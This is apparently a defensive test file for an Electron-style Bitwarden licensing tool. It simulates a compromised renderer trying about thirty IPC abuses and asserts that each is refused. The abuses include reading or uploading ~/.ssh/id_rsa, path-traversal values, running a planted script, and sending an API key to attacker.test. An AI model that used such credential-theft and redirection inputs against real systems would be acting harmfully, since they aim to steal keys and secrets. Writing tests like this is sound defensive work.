import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createConnectionManager, type ConnectionManager } from '../../../main/core/connections';
import { createLocalHost } from '../../../main/core/host';
import { MemorySecretStore } from '../../../main/core/secrets';
import { MemorySettingsStore } from '../../../main/core/settings';
import { buildHandlerTable, createDispatcher, INVOKE, type AppServices, type Dispatcher } from '../../../main/ipc';
import type { IpcResult } from '../../../main/ipc/result';
import { createSponsorshipApi, type SponsorshipApi } from '../../../preload/api';
import { startBitwardenStandIn, type BitwardenStandIn } from '../../support/bitwarden-stand-in';
import { createTestLicensingKey, issueTestLicense } from '../../support/license-factory';
import { createTempInstall, type TempInstall } from '../../support/temp-install';

/**
 * Plays a compromised renderer against the real dispatcher, handler table and core: it has exactly
 * what a page has (the preload's `window.sponsorship` and, to be thorough, raw channel payloads),
 * and tries to read, upload, run, edit, redirect and open what the admin never chose. Every attempt
 * must be refused with nothing sent (the stand-in's request log), run (the planted bitwarden.sh's
 * call log) or changed (the files).
 */

const SECRET_KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nabuse-test-not-a-real-key\n-----END OPENSSH PRIVATE KEY-----\n';

let standIn: BitwardenStandIn;
let home: string;
let sshKey: string;
let chosen: TempInstall;
let planted: TempInstall;
let connections: ConnectionManager;
let dispatcher: Dispatcher;
let api: SponsorshipApi;
const opened: string[] = [];
const asked: string[] = [];
let selfOrgId: string;
let chosenId: string;
let caFileId: string;

const standInEnv = (s: BitwardenStandIn) =>
  [`globalSettings__baseServiceUri__vault=${s.selfVaultUrl}`, 'globalSettings__baseServiceUri__cloudRegion=US', `globalSettings__installation__id=${s.installationId}`, ''].join('\n');

beforeAll(async () => {
  standIn = await startBitwardenStandIn();
  const owner = await standIn.addUser('self', { email: 'owner@self.test', password: 'pw', kdf: { type: 'pbkdf2', iterations: 5_000 } });
  selfOrgId = standIn.addOrganization('self', { name: 'Acme', owner }).id;
  home = await fs.mkdtemp(path.join(os.tmpdir(), 'abuse-home-'));
  sshKey = path.join(home, '.ssh', 'id_rsa');
  await fs.mkdir(path.dirname(sshKey), { recursive: true });
  await fs.writeFile(sshKey, SECRET_KEY, { mode: 0o600 });
  // The install the admin chose (folder dialog), and another one the page will try to use.
  chosen = await createTempInstall({ envContent: standInEnv(standIn), control: { rootPrompt: 'skip' } });
  planted = await createTempInstall({ envContent: 'globalSettings__baseServiceUri__cloudRegion=US\n# someone else\n', control: { rootPrompt: 'skip' } });

  const settings = new MemorySettingsStore();
  const secrets = new MemorySecretStore();
  connections = createConnectionManager({ settings, secrets, surface: 'desktop' });
  const pickAnswers: string[] = [chosen.root, standIn.caFile];
  const services: AppServices = {
    host: createLocalHost(),
    appInfo: async () => ({ name: 'x', version: '0', platform: 'linux', secretStorage: { persistent: false } }),
    dialogs: {
      pickFolder: async () => pickAnswers.shift() ?? null,
      pickFile: async () => pickAnswers.shift() ?? null,
      saveFile: async () => null,
      // The admin says no to every question main asks in this suite.
      confirm: async ({ message }) => (asked.push(message), false),
    },
    openExternal: async (url) => (opened.push(url), true),
    clipboard: { writeText: () => {} },
    paths: { logs: path.join(home, 'logs'), downloads: path.join(home, 'Downloads'), licenses: path.join(home, 'licenses') },
    settings,
    secrets: { store: secrets, persistent: false, reason: 'test' },
    connections,
    log: () => {},
  };
  dispatcher = createDispatcher(buildHandlerTable(services));
  // The page's API, built by the preload's own factory. A File the page makes up has no path on disk.
  api = createSponsorshipApi(
    { invoke: (channel, request) => dispatcher.dispatch(channel, request, () => {}) as never, subscribe: () => () => {} },
    { pathForFile: () => '' },
  );

  // What the admin did legitimately: chose the install and the CA file in main's dialogs, signed in to its own vault.
  const install = await api.install.pickFolder();
  expect(install).toMatchObject({ ok: true, value: { install: { folder: chosen.root, confirmed: true } } });
  chosenId = install.ok && install.value.install ? install.value.install.installId : '';
  const ca = await api.connections.pickCaFile();
  if (!ca.ok || !ca.value.file) throw new Error('CA not chosen');
  caFileId = ca.value.file.fileId;
  const login = await api.connections.signIn({ role: 'self', vaultUrl: standIn.selfVaultUrl, clientId: owner.clientId, clientSecret: owner.clientSecret, caFileId: ca.value.file.fileId });
  expect(login.ok, JSON.stringify(login)).toBe(true);
  expect(asked).toEqual([]); // the install's own vault: nothing to ask
});

afterAll(async () => {
  await connections?.close();
  await chosen?.dispose();
  await planted?.dispose();
  await standIn?.close();
  if (home) await fs.rm(home, { recursive: true, force: true });
});

interface Attempt {
  name: string;
  run: () => Promise<IpcResult<unknown>>;
}

const raw = (channel: string, payload: unknown) => () => dispatcher.dispatch(channel, payload, () => {});
const fakeFile = (name: string) => new File(['{}'], name);

describe('a compromised renderer, against the real dispatcher and core', () => {
  it('is refused every time, and nothing is sent, run or changed', async () => {
    const typedPlanted = await api.install.useTypedFolder(planted.root);
    if (!typedPlanted.ok) throw new Error('typed folder refused');
    const plantedId = typedPlanted.value.installId;
    expect(typedPlanted.value.confirmed).toBe(false);
    const plantedPlan = await api.cloud.planEnable({ installId: plantedId }); // reading a typed folder is allowed
    const plantedDiff = plantedPlan.ok ? plantedPlan.value.diff : 'x';
    const plantedEnvBefore = await fs.readFile(planted.envFile, 'utf8');
    const chosenEnvBefore = await fs.readFile(chosen.envFile, 'utf8');
    const license = issueTestLicense({ key: await createTestLicensingKey(), installationId: standIn.installationId }).json;
    await fs.writeFile(path.join(home, 'license.json'), license);
    const requestsBefore = standIn.requests.length;
    const guessed = randomUUID();

    const attempts: Attempt[] = [
      // Reading ~/.ssh-like files.
      { name: 'inspect ~/.ssh/id_rsa by path', run: raw(INVOKE.licenseInspectFile, { path: sshKey }) },
      { name: 'inspect a guessed file handle', run: () => api.license.inspect({ fileId: guessed }) },
      { name: 'register ~/.ssh/id_rsa as a dropped file (raw channel)', run: raw(INVOKE.fileRegisterDropped, { path: sshKey, purpose: 'license' }) },
      { name: 'register a dropped File the page made up', run: () => api.app.registerDroppedLicense(fakeFile('id_rsa.json')) },
      { name: 'trust ~/.ssh/id_rsa as the firewall CA by path', run: raw(INVOKE.firewallRun, { operationId: 'x', region: 'us', caFile: sshKey }) },
      { name: 'check a license with ~/.ssh/id_rsa as the certificate', run: raw(INVOKE.licenseDownload, { cloudOrgId: randomUUID(), installationId: randomUUID(), certificatePath: sshKey }) },
      { name: 'read a folder by path for the server logs', run: raw(INVOKE.syncVerifyServerLogs, { installFolder: path.dirname(sshKey) }) },
      { name: 'read a folder by path for the report', run: raw(INVOKE.setupReport, { installFolder: home }) },
      // Uploading a file that was not chosen.
      { name: 'upload ~/.ssh/id_rsa by path with force', run: raw(INVOKE.licenseUpload, { source: { kind: 'path', path: sshKey }, selfOrgId, force: true }) },
      { name: 'upload a guessed file handle with force', run: () => api.license.upload({ fileId: guessed, selfOrgId, force: true }) },
      { name: 'upload the chosen CA file as a license', run: () => api.license.upload({ fileId: caFileId, selfOrgId, force: true }) },
      { name: 'upload bytes the page made up', run: raw('sponsorship:license-inspect-bytes', { fileName: 'x.json', bytes: { base64: Buffer.from(license).toString('base64') } }) },
      // Running a planted bitwarden.sh.
      { name: 'apply in a folder named by path', run: raw(INVOKE.cloudApplyStart, { folder: planted.root, method: 'restart', operationId: 'a1' }) },
      { name: 'apply in a typed folder the admin did not confirm', run: () => api.cloud.apply({ installId: plantedId, method: 'restart', operationId: 'a2' }) },
      { name: 'apply with a guessed install handle', run: () => api.cloud.apply({ installId: guessed, method: 'no-pull', operationId: 'a3' }) },
      { name: 'attach to a run named by a path', run: raw(INVOKE.cloudApplyAttach, { installId: plantedId, runId: '../../../tmp/x', operationId: 'a4' }) },
      { name: 'attach (and go on running) in a typed folder the admin did not confirm', run: () => api.cloud.attach({ installId: plantedId, runId: '20261201-221503-Ab12Cd', operationId: 'a5' }) },
      // Editing another folder's env file.
      { name: 'enable cloud communication in a folder named by path', run: raw(INVOKE.cloudEnable, { folder: planted.root, confirmedDiff: plantedDiff }) },
      { name: "enable cloud communication in a typed folder the admin did not confirm", run: () => api.cloud.enable({ installId: plantedId, confirmedDiff: plantedDiff }) },
      { name: 'write proxy variables into a typed folder the admin did not confirm', run: () => api.firewall.writeProxyEnv({ installId: plantedId, proxy: 'http://attacker.test:3128', confirmedDiff: 'x' }) },
      { name: 'restore a typed folder the admin did not confirm', run: () => api.cloud.restore({ installId: plantedId }) },
      { name: 'restore the chosen install from a backup path of its choosing', run: raw(INVOKE.cloudRestore, { installId: guessed, backupPath: sshKey }) },
      { name: 'restore the chosen install from a backup name outside its list', run: () => api.cloud.restore({ installId: chosenId, backupName: '../../../.ssh/id_rsa' }) },
      { name: 'save progress naming a folder by path', run: raw(INVOKE.wizardProgressSave, { currentStep: null, completedSteps: [], installFolder: planted.root, values: {} }) },
      // Redirecting a connection without confirmation.
      { name: 'sign in to a new host with the API key', run: () => api.connections.signIn({ role: 'self', vaultUrl: 'https://attacker.test', clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
      { name: 'redirect the cloud connection to explicit endpoints', run: () => api.connections.signIn({ role: 'cloud', region: 'custom', apiUrl: 'https://localhost:1/api', identityUrl: 'https://localhost:1/identity', clientId: 'user.4a1f3f36-7f8e-4a53-9b2e-5d1c1e7c9a10', clientSecret: 'stolen' }) },
      { name: 'point the manual steps at its own vault URL', run: raw(INVOKE.licenseManualSteps, { installationId: null, cloudRegion: 'US', vaultUrl: 'https://attacker.test', installId: null }) },
      { name: 'point the sync guide at its own vault URL', run: raw(INVOKE.syncVerifyGuide, { selfOrgId: null, installId: null, vaultUrl: 'https://attacker.test' }) },
      // Opening an arbitrary URL.
      { name: 'open an arbitrary URL', run: raw(INVOKE.externalOpen, { url: 'https://attacker.test/phish' }) },
      { name: 'open a URL passed as a link id', run: () => api.app.openLink('https://attacker.test/phish') },
      { name: 'open a guessed link id', run: () => api.app.openLink(guessed) },
    ];

    const refusals: string[] = [];
    const codes: string[] = [];
    for (const attempt of attempts) {
      const result = await attempt.run();
      // `openLink` answers ok with opened:false; everything else is an error envelope.
      const refused = !result.ok || (typeof result.value === 'object' && result.value !== null && 'opened' in result.value && result.value.opened === false);
      if (refused) refusals.push(attempt.name);
      else expect.soft(result, attempt.name).toMatchObject({ ok: false });
      // Refused on purpose (a handle, schema, confirmation or list check), never by accident.
      if (!result.ok) codes.push(`${attempt.name}: ${result.error.kind}/${result.error.code}`);
    }
    console.log(`renderer abuse attempts refused ${refusals.length}/${attempts.length}`);
    expect(refusals).toEqual(attempts.map((a) => a.name));
    const expectedCodes = /(invalid-request\/(invalid-request|unknown-channel)|unusable-input\/(unknown-file|unknown-install|install-not-confirmed|destination-refused|unknown-backup|not-a-file|not-a-license-file))$/;
    expect(codes.filter((code) => !expectedCodes.test(code))).toEqual([]);

    // Nothing sent: the stand-in saw no request, and no URL was opened.
    expect(standIn.requests.slice(requestsBefore)).toEqual([]);
    expect(opened).toEqual([]);
    // Nothing run: the planted (and the chosen) bitwarden.sh were never called.
    expect(await planted.calls()).toEqual([]);
    expect(await chosen.calls()).toEqual([]);
    // Nothing changed: both env files as they were, no backup beside them, the key untouched.
    expect(await fs.readFile(planted.envFile, 'utf8')).toBe(plantedEnvBefore);
    expect(await fs.readFile(chosen.envFile, 'utf8')).toBe(chosenEnvBefore);
    expect(await fs.readdir(path.dirname(planted.envFile))).toEqual(['global.override.env']);
    expect(await fs.readdir(path.dirname(chosen.envFile))).toEqual(['global.override.env']);
    expect(await fs.readFile(sshKey, 'utf8')).toBe(SECRET_KEY);
    // The connection still points at the install's own vault; main asked the admin (who said no) naming each new host.
    expect((await connections.whoami()).self).toMatchObject({ email: 'owner@self.test' });
    expect(asked).toEqual(
      expect.arrayContaining([
        `Change the files of the install at ${planted.root}?`,
        `Run bitwarden.sh / docker compose for ${planted.root}?`,
        'Send your API key to attacker.test?',
        'Send your API key to localhost:1?',
      ]),
    );
  });
});
